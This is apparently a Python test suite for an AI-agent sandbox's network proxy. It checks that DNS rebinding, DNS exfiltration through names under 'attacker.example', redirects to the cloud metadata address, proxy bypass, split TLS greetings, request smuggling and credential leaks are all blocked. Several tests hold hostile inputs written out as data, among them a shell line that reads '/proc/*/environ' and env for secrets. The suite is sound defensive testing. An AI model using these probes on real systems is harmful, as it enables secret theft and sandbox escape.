"""Tricks with names and addresses, other protocols, ports of servers inside, and credentials that never come in."""

from __future__ import annotations

import asyncio
import ipaddress
import os
import shutil
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest
from tests.sandbox.tls import credentialed

from forgewright.core.errors import UsageError
from forgewright.sandbox import Command, Network, SandboxSpec, Tier, driver
from forgewright.sandbox.addresses import is_public
from forgewright.sandbox.drivers.container import ContainerDriver
from forgewright.sandbox.session import AgentSandbox
from forgewright.sandbox.types import Connection, Credential

pytestmark = pytest.mark.sandbox

TIERS = {"container": "crun", "gvisor": "runsc", "microvm": "qemu-system-x86_64"}
SECRET = "s3cr3t-token-that-stays-outside"

Handler = Callable[[bytes, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


class Web:
    """An HTTP server on the host's loopback; `seen` holds the heads of its requests."""

    def __init__(self, handler: Handler, context: ssl.SSLContext | None = None) -> None:
        self.seen: list[bytes] = []
        self._handler, self._context = handler, context

    async def __aenter__(self) -> Web:
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0, ssl=self._context)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *exc: object) -> None:
        self._server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            self.seen.append(head)
            await self._handler(head, reader, writer)
            await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        writer.close()


def answer(body: bytes, status: bytes = b"200 OK", more: bytes = b"") -> Handler:
    async def handler(head: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 %s\r\nContent-Length: %d\r\n%s\r\n%s" % (status, len(body), more, body))

    return handler


async def make(network: Network, tier: str = "container") -> AgentSandbox:
    program = TIERS[tier]
    if not (shutil.which(program) or shutil.which(program, path="/usr/sbin")):
        message = f"{program} is not installed; run: sh scripts/setup.sh"
        pytest.fail(message) if os.environ.get("CI") else pytest.skip(message)
    sandbox = await driver(tier).create(SandboxSpec(tier=Tier(tier), network=network))
    assert isinstance(sandbox, AgentSandbox)
    return sandbox


FETCH = """
import os, sys, urllib.request
os.environ.pop('no_proxy', 0), os.environ.pop('NO_PROXY', 0)  # the servers of these tests are on a loopback
request = urllib.request.Request(sys.argv[1], data=sys.stdin.buffer.read() or None)
for pair in sys.argv[2:]:
    request.add_header(*pair.split('='))
try:
    sys.stdout.buffer.write(urllib.request.urlopen(request, timeout=20).read())
except Exception as error:
    print('FAILED', error)
"""
RAW = """
import socket, sys, time
s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))); s.settimeout(10)
data = sys.stdin.buffer.read()
for part in data.split(b'|PAUSE|'):
    s.sendall(part); time.sleep(0.2)
try:
    while got := s.recv(65536):
        sys.stdout.buffer.write(got); sys.stdout.flush()
except OSError: pass
"""


def fetch(url: str, *headers: str, data: bytes = b"") -> Command:
    return Command(argv=("python3", "-c", FETCH, url, *headers), stdin=data, timeout_seconds=60)


def raw(data: bytes, port: int = 3128) -> Command:
    return Command(argv=("python3", "-c", RAW, str(port)), stdin=data, timeout_seconds=60)


# ── names and addresses ──────────────────────────────────────────────────────────────────────────────


async def test_a_name_that_means_another_address_the_second_time(monkeypatch: pytest.MonkeyPatch) -> None:
    from forgewright.sandbox import egress

    monkeypatch.setattr(egress, "CONNECT_SECONDS", 0.3)
    answers = [["198.41.0.4"], ["127.0.0.1"], ["198.41.0.4", "127.0.0.1"], ["::ffff:127.0.0.1"], ["64:ff9b::7f00:1"],
               ["169.254.169.254"], ["fd00:ec2::254"], []]  # fmt: skip
    asked: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        asked.append(host)
        return answers[len(asked) - 1]

    async with Web(answer(b"canary")) as web:
        sandbox = await make(Network((f"rebind.example:{web.port}",)))
        try:
            assert sandbox.egress is not None
            sandbox.egress.resolve = resolve
            for _ in answers:
                ended = await sandbox.run(fetch(f"http://rebind.example:{web.port}/"))
                assert b"FAILED HTTP Error" in ended.stdout
            assert len(asked) == len(answers), (
                "once for each connection: what was checked is what is connected to"
            )
            assert web.seen == []
            assert [connection.allowed for connection in sandbox.egress.connections] == [False] * len(answers)
        finally:
            await sandbox.close()


async def test_names_that_are_not_allowed_are_not_even_asked_for() -> None:
    """Else each question would carry some bytes out: c2VjcmV0.attacker.example."""
    asked: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        asked.append(host)
        return []

    sandbox = await make(Network(("packages.example:443",)))
    try:
        assert sandbox.egress is not None
        sandbox.egress.resolve = resolve
        for host in (
            "c2VjcmV0.attacker.example",
            "c2VjcmV0.packages.example",
            "packages.example.attacker.example",
        ):
            assert b"403" in (await sandbox.run(fetch(f"https://{host}/"))).stdout
        lookup = "import socket; socket.getaddrinfo('c2VjcmV0.attacker.example', 443)"
        assert (await sandbox.run(Command(argv=("python3", "-c", lookup)))).code == 1
        assert asked == []
    finally:
        await sandbox.close()


async def test_a_redirect_to_a_host_that_is_refused_is_refused() -> None:
    elsewhere = answer(b"", b"302 Found", b"Location: http://169.254.169.254/latest/meta-data\r\n")
    async with Web(elsewhere) as web:
        sandbox = await make(Network((f"127.0.0.1:{web.port}",)))
        try:
            ended = await sandbox.run(fetch(f"http://127.0.0.1:{web.port}/"))
            assert b"FAILED HTTP Error 403" in ended.stdout
            assert sandbox.egress is not None
            refused = [(c.host, c.port) for c in sandbox.egress.connections if not c.allowed]
            assert refused == [("169.254.169.254", 80)]  # whichever of the two connections is counted last
        finally:
            await sandbox.close()


@pytest.mark.parametrize("tier", TIERS)
async def test_there_is_no_way_around_the_proxy(tier: str) -> None:
    """Nor to the addresses of this machine's own cards, nor by another protocol."""
    import socket

    async with Web(answer(b"canary")) as web:
        sandbox = await make(Network((f"127.0.0.1:{web.port}",)), tier)
        own = {entry[4][0] for entry in socket.getaddrinfo(socket.gethostname(), None)} | {
            "127.0.0.1",
            "::1",
            "10.0.2.2",
        }
        script = f"""
import socket
for host in {sorted(own)!r} + ['169.254.169.254', '1.1.1.1', '2606:4700:4700::1111']:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, kind); s.settimeout(2)
            s.connect((host, {web.port})); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n'); print('REACHED' if s.recv(9) else '')
        except OSError: pass
"""
        try:
            ended = await sandbox.run(Command(argv=("python3", "-c", script), timeout_seconds=60))
            assert (ended.code, ended.stdout) == (0, b"")
            assert web.seen == []
        finally:
            await sandbox.close()


async def test_a_greeting_in_pieces_hides_no_name() -> None:
    """A TLS greeting for another host, sent byte by byte, or cut into records."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with pytest.raises(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="elsewhere.example").do_handshake()
    hello = outgoing.read()
    pieces = hello[:1] + b"|PAUSE|" + hello[1:3] + b"|PAUSE|" + hello[3:]
    records = b"".join(hello[:3] + len(part).to_bytes(2) + part for part in (hello[5:60], hello[60:]))
    async with Web(answer(b"canary")) as web:
        sandbox = await make(Network((f"127.0.0.1:{web.port}",)))
        connect = b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % web.port
        try:
            assert sandbox.egress is not None
            for data, why in ((pieces, "elsewhere.example"), (records, "cannot be read")):
                ended = await sandbox.run(raw(connect + b"|PAUSE|" + data))
                assert b"canary" not in ended.stdout
                assert why in sandbox.egress.connections[-1].reason
                assert sandbox.egress.connections[-1].sent_bytes == 0
        finally:
            await sandbox.close()


NOT_PUBLIC = """::7f00:1 ::ffff:10.0.0.1 64:ff9b::a9fe:a9fe 64:ff9b:1::1 fec0::1 100::1 2001:db8::1 2002:a9fe:a9fe::
2001:0:7f00:1:0:0:80ff:fffe ff02::1 2600::5efe:7f00:1 2600::200:5efe:a00:1 192.88.99.1 240.0.0.1 255.255.255.255 0.1.2.3
192.0.2.1 198.18.0.1"""


@pytest.mark.parametrize("text", NOT_PUBLIC.split())
def test_forms_of_addresses_that_lead_inside(text: str) -> None:
    assert not is_public(ipaddress.ip_address(text))


@pytest.mark.parametrize(
    "text", ["198.41.0.4", "2606:4700:4700::1111", "64:ff9b::c629:4", "2600::5efe:c629:4"]
)
def test_forms_of_public_addresses(text: str) -> None:
    assert is_public(ipaddress.ip_address(text))


async def test_what_cannot_be_recorded_does_not_go_out() -> None:
    told: list[str] = []

    async def refuse(connection: Connection) -> None:
        told.append(connection.phase)
        raise OSError("the journal is full")

    async with Web(answer(b"canary")) as web:
        sandbox = await make(Network((f"127.0.0.1:{web.port}",)))
        try:
            sandbox.watch_connections(refuse)
            assert b"canary" not in (await sandbox.run(fetch(f"http://127.0.0.1:{web.port}/"))).stdout
            assert told[0] == "opened"
            assert web.seen == []
        finally:
            await sandbox.close()


# ── ports, both ways ─────────────────────────────────────────────────────────────────────────────────

SERVER = """
import socket, sys
family = socket.AF_INET6 if sys.argv[2] == '6' else socket.AF_INET
server = socket.socket(family); server.bind(('::1' if family == socket.AF_INET6 else '127.0.0.1', int(sys.argv[1])))
server.listen(); print('up', flush=True)
while True:
    connection, _ = server.accept()
    connection.sendall(b'hello from inside ')
    while data := connection.recv(65536): connection.sendall(data.upper())
    connection.close()
"""


@pytest.mark.parametrize("tier", TIERS)
async def test_a_server_inside_is_reached_from_this_machine(tier: str) -> None:
    sandbox = await make(Network(), tier)
    tasks = []
    try:
        for port, version in ((8080, "4"), (8081, "6")):
            up = asyncio.Event()
            command = Command(argv=("python3", "-c", SERVER, str(port), version))
            tasks.append(asyncio.create_task(sandbox.run(command, on_output=lambda s, d, up=up: up.set())))
            await asyncio.wait_for(up.wait(), 60)
            published = await sandbox.publish(port)
            assert await talk(published.port, b"x" * 300_000) == b"hello from inside " + b"X" * 300_000
            answers = await asyncio.gather(*(talk(published.port, b"%d" % n) for n in range(8)))
            assert answers == [b"hello from inside %d" % n for n in range(8)]
        nobody = await sandbox.publish(8082)
        assert await talk(nobody.port, b"x") == b""
    finally:
        await sandbox.close()
        await asyncio.gather(*tasks, return_exceptions=True)
    with pytest.raises(ConnectionRefusedError):
        await asyncio.open_connection("127.0.0.1", published.port)


async def talk(port: int, data: bytes) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(data)
        writer.write_eof()
        return await asyncio.wait_for(reader.read(-1), 30)
    except ConnectionResetError:
        return b""
    finally:
        writer.close()


@pytest.mark.parametrize("tier", TIERS)
async def test_other_protocols_by_a_forwarded_port(tier: str) -> None:
    """The server speaks first, as databases and mail servers do."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"220 ready\n")
        while data := await reader.read(65536):
            writer.write(data[::-1])
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    told: list[Connection] = []

    async def listen(connection: Connection) -> None:
        told.append(connection)

    async with server:
        sandbox = await make(Network(forward=(f"5432=127.0.0.1:{port}",)), tier)
        sandbox.watch_connections(listen)
        script = (
            "import socket; s = socket.create_connection(('127.0.0.1', 5432)); f = s.makefile('rwb', 0)\n"
        )
        script += "print(f.readline()); f.write(b'abc'); print(f.read(3))"
        try:
            ended = await sandbox.run(Command(argv=("python3", "-c", script), timeout_seconds=30))
            assert ended.stdout == b"b'220 ready\\n'\nb'cba'\n"
            proxy = "import socket; socket.create_connection(('127.0.0.1', 3128))"
            assert (await sandbox.run(Command(argv=("python3", "-c", proxy)))).code == 1, (
                "no proxy where none is needed"
            )
        finally:
            await sandbox.close()
    assert [(c.host, c.port, c.phase, c.allowed) for c in told] == [
        ("127.0.0.1", port, "opened", True), ("127.0.0.1", port, "closed", True),
    ]  # fmt: skip
    assert (told[1].sent_bytes, told[1].received_bytes) == (3, 13)


@pytest.mark.parametrize(
    "network",
    [
        Network(forward=("*.example.com:1",)), Network(forward=("x=example.com:1",)), Network(forward=("example.com:3128",)),
        Network(forward=tuple(f"a.example:{n}" for n in range(1, 19))), Network(credentials=(Credential("a.example:443", "X"),)),
        Network(("*.example:443",), (Credential("*.example:443", "PATH"),)),
        Network(("a.example:443",), (Credential("a.example:443", "NO_SUCH_VARIABLE"),)),
        Network(("a.example:443",), (Credential("a.example:443", "PATH", header="X: y\r\nZ"),)),
    ],
)  # fmt: skip
async def test_rules_that_make_no_sense(network: Network) -> None:
    with pytest.raises(UsageError):
        await ContainerDriver().create(SandboxSpec(network=network))


# ── credentials ──────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
async def api(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Web]:
    """A server behind TLS that greets who has the secret, and on /echo gives back what it was sent."""

    async def handler(head: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        path = head.split(b" ")[1]
        length = next(
            (int(h.split(b":")[1]) for h in head.split(b"\r\n") if h.lower().startswith(b"content-length")), 0
        )
        body = await reader.readexactly(length)
        known = b"Authorization: Bearer " + SECRET.encode() in head.split(b"\r\n")
        text = head if path == b"/echo" else b"hello, known: %s, %d bytes" % (str(known).encode(), len(body))
        await answer(text)(head, reader, writer)

    context = credentialed(tmp_path, SECRET, monkeypatch)
    async with Web(handler, context) as web:
        yield web


@pytest.mark.parametrize("tier", TIERS)
async def test_the_proxy_adds_a_credential_that_never_comes_in(tier: str, api: Web) -> None:
    host = f"localhost:{api.port}"
    sandbox = await make(Network((host,), (Credential(host, "API_TOKEN"),)), tier)
    try:
        ended = await sandbox.run(fetch(f"https://{host}/"))
        assert ended.stdout == b"hello, known: True, 0 bytes"
        ended = await sandbox.run(fetch(f"https://{host}/", "Authorization=Bearer mine", data=b"x" * 100_000))
        assert ended.stdout == b"hello, known: True, 100000 bytes", (
            "what the program sends itself is replaced"
        )
        assert all(head.count(b"uthorization:") == 1 for head in api.seen)
        ended = await sandbox.run(fetch(f"https://{host}/echo"))
        assert SECRET.encode() not in ended.stdout
        assert sandbox.egress is not None
        assert sandbox.egress.connections[-1].reason == "the answer holds the credential"
        look = "cat /proc/*/environ /run/* /tmp/* 2>/dev/null; env; cat $SSL_CERT_FILE"
        ended = await sandbox.run(Command(argv=("sh", "-c", look)))
        assert SECRET.encode() not in ended.stdout
        assert b"BEGIN CERTIFICATE" in ended.stdout
        assert b"PRIVATE KEY" not in ended.stdout
    finally:
        await sandbox.close()


async def test_tricks_with_credentials(api: Web) -> None:
    """Another host in the request that is decrypted, a second request behind the first, no TLS at all."""
    host = f"localhost:{api.port}"
    sandbox = await make(Network((host,), (Credential(host, "API_TOKEN"),)))
    program = """
import socket, ssl, sys
s = socket.create_connection(('127.0.0.1', 3128)); s.sendall(b'CONNECT %b HTTP/1.1\\r\\n\\r\\n' % sys.argv[1].encode())
s.recv(100); t = ssl.create_default_context().wrap_socket(s, server_hostname='localhost'); t.settimeout(10)
t.sendall(sys.stdin.buffer.read())
try:
    while data := t.recv(65536): sys.stdout.buffer.write(data)
except OSError: pass
"""
    try:
        for head, status in (
            (b"GET / HTTP/1.1\r\nHost: elsewhere.example\r\n\r\n", b"403"),
            (b"GET https://elsewhere.example/ HTTP/1.1\r\n\r\n", b"403"),
            (b"GET / HTTP/1.1\r\n\r\n", b"200"),
            (b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n", b"403"),
        ):
            ended = await sandbox.run(
                Command(argv=("python3", "-c", program, host), stdin=head, timeout_seconds=30)
            )
            assert ended.stdout.startswith(b"HTTP/1.1 " + status), (head, ended)
        before = len(api.seen)
        two = b"GET / HTTP/1.1\r\n\r\nGET /echo HTTP/1.1\r\n\r\n"
        ended = await sandbox.run(
            Command(argv=("python3", "-c", program, host), stdin=two, timeout_seconds=30)
        )
        assert ended.stdout.count(b"HTTP/1.1 200") == 1
        assert len(api.seen) == before + 1
        ended = await sandbox.run(
            raw(b"CONNECT %b HTTP/1.1\r\n\r\n|PAUSE|GET / HTTP/1.1\r\n\r\n" % host.encode())
        )
        assert b"hello" not in ended.stdout
    finally:
        await sandbox.close()


async def test_a_server_that_cannot_prove_its_name_gets_no_credential(
    api: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("SSL_CERT_FILE")
    host = f"localhost:{api.port}"
    sandbox = await make(Network((host,), (Credential(host, "API_TOKEN"),)))
    try:
        assert b"FAILED HTTP Error 502" in (await sandbox.run(fetch(f"https://{host}/"))).stdout
        assert api.seen == []
    finally:
        await sandbox.close()
